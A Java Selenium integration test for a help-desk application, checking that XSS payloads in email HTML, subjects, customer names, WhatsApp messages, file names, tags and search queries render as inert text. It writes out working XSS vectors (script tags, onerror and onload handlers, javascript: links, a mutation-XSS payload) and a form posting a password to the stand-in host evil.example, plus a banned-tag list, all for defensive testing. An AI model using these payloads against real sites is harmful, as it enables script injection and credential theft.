package org.ventanilla.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import jakarta.json.JsonObject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.NoAlertPresentException;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.ExpectedConditions;

/**
 * Issue 8, "hostile input", where it matters most: in an agent's browser. Script and event-handler
 * payloads in a mail's HTML, in subjects, customer names, WhatsApp text, file and tag names and the
 * search box must render as inert text. Every payload tries to set {@code window.__pwned} and the
 * page title; after each page has loaded (images failed, handlers had their chance) neither
 * happened, no alert is open, and the payload is shown to the agent as the text it is.
 */
@ExtendWith({ArquillianExtension.class, Browser.ScreenshotOnFailure.class})
class HostileInputBrowserIT {

  @RegisterExtension static final CloudApiStandIn cloud = CloudApiStandIn.perClass();

  @Deployment(testable = false)
  static EnterpriseArchive deployment() {
    return Deployments.ear();
  }

  private static String pwn(String where) {
    return "window.__pwned='" + where + "';document.title='PWNED'";
  }

  @Test
  @DisplayName(
      "script and event-handler payloads in mail HTML, subjects, names, WhatsApp text, files, tags and search stay inert text")
  void payloadsRenderInert() throws Exception {
    Api admin = Api.asAdmin();
    String token = "xss" + HostileSupport.unique();
    String subject =
        "<script>"
            + pwn("subject")
            + "</script><img src=x onerror=\""
            + pwn("subject-img")
            + "\"> "
            + token;
    String name = "<img src=x onerror=\"" + pwn("name") + "\">Lucía " + token;
    String html =
        "<p>Hola <b>"
            + token
            + "</b></p>"
            + "<script>"
            + pwn("html-script")
            + "</script>"
            + "<img id=\"evil-img\" src=\"x\" onerror=\""
            + pwn("html-img")
            + "\">"
            + "<a id=\"evil-link\" href=\"javascript:"
            + pwn("html-link")
            + "\">pulsa</a>"
            + "<svg onload=\""
            + pwn("svg")
            + "\"><circle r=\"1\"/></svg>"
            + "<iframe src=\"javascript:"
            + pwn("iframe")
            + "\"></iframe>"
            + "<form action=\"https://evil.example/steal\"><input name=\"password\"></form>"
            + "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=\""
            + pwn("overlay")
            + "\">tapa</div>"
            + "<style>body{display:none}</style>"
            + "<math><mtext><table><mglyph><style><img src=x onerror=\""
            + pwn("mxss")
            + "\">";
    Api.Response email =
        admin.post(
            "tickets",
            """
            {"channel":"email","subject":%s,"text":"texto","html":%s,
             "customer":{"name":%s,"email":"%s@example.com"}}"""
                .formatted(
                    HostileSupport.jsonString(subject),
                    HostileSupport.jsonString(html),
                    HostileSupport.jsonString(name),
                    token));
    assertEquals(201, email.status(), email::toString);
    long emailTicket = email.object().getJsonNumber("id").longValue();

    // The API hands out sanitized HTML only.
    JsonObject message =
        admin.get("tickets/" + emailTicket).object().getJsonArray("messages").getJsonObject(0);
    String sanitized = message.getString("html");
    assertTrue(sanitized.contains(token), sanitized);
    for (String banned :
        List.of(
            "<script",
            "onerror",
            "onload",
            "onmouseover",
            "javascript:",
            "<iframe",
            "<form",
            "<style",
            "<svg")) {
      assertFalse(
          sanitized.toLowerCase().contains(banned), () -> banned + " survived: " + sanitized);
    }

    // A tag, chosen by an agent, shown as a chip.
    // Tag names are short (60 characters): the shortest payload that would run.
    String tag = "<img src=x onerror=__pwned=1>" + token;
    Api.Response tagged =
        admin.patch(
            "tickets/" + emailTicket,
            "{\"tags\":[" + HostileSupport.jsonString(tag) + "]}",
            java.util.Map.of());
    assertEquals(200, tagged.status(), tagged::toString);

    // WhatsApp: a text, a profile name and a document's file name, through a signed webhook.
    CloudApiStandIn.WhatsAppNumber number = HostileSupport.newNumber(cloud.baseUrl());
    String waId = HostileSupport.newWaId();
    String waText =
        "<script>"
            + pwn("whatsapp")
            + "</script><img src=x onerror=\""
            + pwn("wa-img")
            + "\"> "
            + token;
    String profile = "<svg onload=\"" + pwn("profile") + "\"> Wa " + token;
    MetaWebhooks.deliver(
        number,
        HostileSupport.payload(
            number,
            waId,
            profile,
            HostileSupport.textMessage(waId, HostileSupport.wamid(), waText)));
    byte[] file = ("documento " + token).getBytes(StandardCharsets.UTF_8);
    cloud.addMedia("MEDIA" + token, file, "application/pdf");
    String fileName = "<img src=x onerror=\"" + pwn("file") + "\">.pdf";
    MetaWebhooks.deliver(
        number,
        HostileSupport.payload(
            number,
            waId,
            profile,
            """
            {"from":"%s","id":"%s","timestamp":"%d","type":"document","document":{"id":"MEDIA%s","mime_type":"application/pdf","sha256":"%s","filename":%s}}"""
                .formatted(
                    waId,
                    HostileSupport.wamid(),
                    Instant.now().getEpochSecond(),
                    token,
                    CloudApiStandIn.sha256(file),
                    HostileSupport.jsonString(fileName))));
    JsonObject whatsapp =
        Eventually.await(
            "the WhatsApp ticket with its document",
            () ->
                HostileSupport.ticketsOf("+" + waId).stream()
                    .filter(t -> t.getJsonArray("messages").size() == 2)
                    .filter(
                        t ->
                            t.getJsonArray("messages").stream()
                                .anyMatch(
                                    m ->
                                        !m.asJsonObject().getJsonArray("attachments").isEmpty()
                                            && m.asJsonObject()
                                                    .getJsonArray("attachments")
                                                    .getJsonObject(0)
                                                    .getJsonNumber("size")
                                                    .longValue()
                                                > 0))
                    .findFirst(),
            Duration.ofSeconds(20));
    long whatsappTicket = whatsapp.getJsonNumber("id").longValue();
    String shownName =
        whatsapp.getJsonArray("messages").stream()
            .flatMap(m -> m.asJsonObject().getJsonArray("attachments").stream())
            .findFirst()
            .orElseThrow()
            .asJsonObject()
            .getString("filename");
    assertTrue(shownName.contains("onerror="), shownName);

    try (Browser browser = Browser.open("es")) {
      browser.signIn(Api.ADMIN, Api.adminPassword());
      browser.wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("current-user")));

      // The inbox lists both tickets, subjects and names as text.
      browser.wait.until(ExpectedConditions.visibilityOfElementLocated(By.partialLinkText(token)));
      settle(browser);
      String inbox = browser.driver.findElement(By.id("inbox:tickets")).getText();
      assertTrue(inbox.contains(subject), () -> "the subject is shown as text: " + inbox);
      assertTrue(inbox.contains(name), () -> "the name is shown as text: " + inbox);
      assertInert(browser, "inbox");

      // The mail's ticket: subject, name, sanitized HTML, tag chip.
      browser.driver.get(Api.baseUrl() + "ticket.xhtml?id=" + emailTicket);
      browser.wait.until(
          ExpectedConditions.textToBePresentInElementLocated(By.id("ticket:subject"), token));
      settle(browser);
      assertEquals(subject, browser.driver.findElement(By.id("ticket:subject")).getText());
      assertTrue(browser.driver.findElement(By.id("ticket:head")).getText().contains(name));
      assertTrue(
          browser.driver.findElement(By.id("ticket:tags")).getText().contains(tag),
          "the tag is shown as text");
      WebElement body = browser.driver.findElement(By.cssSelector(".html-body"));
      assertTrue(body.getText().contains(token), body::getText);
      Object dangerous =
          ((JavascriptExecutor) browser.driver)
              .executeScript(
                  """
                  const body = arguments[0];
                  const bad = [];
                  body.querySelectorAll('script,iframe,form,svg,style,math,object,embed').forEach(e => bad.push(e.tagName));
                  body.querySelectorAll('*').forEach(e => {
                    for (const a of e.attributes) {
                      if (a.name.startsWith('on') || a.name === 'style') bad.push(e.tagName + '@' + a.name);
                      if (/^\\s*javascript:/i.test(a.value)) bad.push(e.tagName + '@' + a.name + '=js');
                    }
                  });
                  return bad.join(',');""",
                  body);
      assertEquals("", dangerous, "nothing active survived in the mail's HTML");
      assertInert(browser, "email ticket");

      // The WhatsApp ticket: text, profile name, file name.
      browser.driver.get(Api.baseUrl() + "ticket.xhtml?id=" + whatsappTicket);
      browser.wait.until(
          ExpectedConditions.textToBePresentInElementLocated(By.id("ticket:timeline"), token));
      settle(browser);
      String timeline = browser.driver.findElement(By.id("ticket:timeline")).getText();
      assertTrue(
          timeline.contains(waText), () -> "the WhatsApp text is shown as text: " + timeline);
      assertTrue(timeline.contains(shownName), () -> "the file name is shown as text: " + timeline);
      assertTrue(browser.driver.findElement(By.id("ticket:head")).getText().contains(profile));
      assertInert(browser, "WhatsApp ticket");

      // Search: results highlighted (escaped), and the query itself reflected as text.
      browser.driver.get(
          Api.baseUrl() + "search.xhtml?q=" + URLEncoder.encode(token, StandardCharsets.UTF_8));
      browser.wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("ticket-results")));
      settle(browser);
      assertTrue(browser.driver.findElement(By.id("ticket-results")).getText().contains(token));
      assertInert(browser, "search results");

      String reflected =
          "\"><script>"
              + pwn("query")
              + "</script><img src=x onerror=\""
              + pwn("query-img")
              + "\">";
      browser.driver.get(
          Api.baseUrl() + "search.xhtml?q=" + URLEncoder.encode(reflected, StandardCharsets.UTF_8));
      browser.wait.until(ExpectedConditions.visibilityOfElementLocated(By.tagName("h1")));
      settle(browser);
      assertTrue(browser.driver.findElement(By.tagName("h1")).getText().contains(reflected));
      assertEquals(
          reflected, browser.driver.findElement(By.id("search-box")).getAttribute("value"));
      assertInert(browser, "reflected search");
    }
    HostileSupport.assertHealthy();
  }

  /** Lets failed images fire their handlers and the page's scripts run. */
  private static void settle(Browser browser) {
    browser.wait.until(
        d ->
            "complete"
                .equals(((JavascriptExecutor) d).executeScript("return document.readyState")));
    try {
      Thread.sleep(700);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  private static void assertInert(Browser browser, String page) {
    try {
      String text = browser.driver.switchTo().alert().getText();
      fail(page + ": an alert opened: " + text);
    } catch (NoAlertPresentException expected) {
      // none: good
    }
    Object pwned =
        ((JavascriptExecutor) browser.driver)
            .executeScript("return window.__pwned === undefined ? null : String(window.__pwned)");
    assertNull(pwned, () -> page + ": a payload ran: " + pwned);
    assertFalse(browser.driver.getTitle().contains("PWNED"), page + ": the title was changed");
  }
}
